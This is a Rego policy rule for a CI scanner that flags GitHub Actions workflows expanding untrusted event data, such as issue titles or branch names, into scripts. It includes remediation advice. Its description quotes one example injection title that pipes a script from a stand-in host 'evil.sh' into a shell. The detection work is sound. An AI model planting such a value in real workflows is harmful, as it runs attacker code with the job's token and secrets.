# METADATA
# title: Untrusted event data is expanded into a script
# description: >-
#   GitHub expands ${{ }} expressions before the shell (or actions/github-script's
#   JavaScript) reads the script, so a value taken from an issue or pull request title,
#   a comment, a review, a commit message or a fork's branch name becomes code: a title
#   such as `"; curl evil.sh | sh; #` runs with the job's token and secrets. The rule
#   follows the expression's value: a context compared with == or passed to contains()
#   yields a boolean and is not reported; one passed through || , format(), join() or
#   toJSON() is.
# custom:
#   id: GHA-001
#   severity: high
#   input: workflow
#   remediation: |
#     Pass the value through an environment variable and quote it in the script:
#
#     ```yaml
#     - env:
#         TITLE: ${{ github.event.issue.title }}
#       run: echo "$TITLE"
#     ```
#
#     In actions/github-script, read `context.payload` instead of expanding the value.
#   frameworks: ["devops ci-cd", "owasp-cicd CICD-SEC-4"]
#   aliases: ["zizmor/template-injection", "CKV_GHA_2"]
package shipgate.github.template_injection

import data.shipgate.lib.github

deny contains {"msg": msg, "src": e.src, "resource": github.where(c.x)} if {
	some c in github.code_strings
	some e in c.str.exprs
	some p in github.untrusted_flows(e)
	msg := sprintf("%s of %s expands %q, which the event's author controls, into code; pass it through an env: variable and use the variable quoted (\"$VAR\") instead", [c.what, github.where(c.x), p])
}
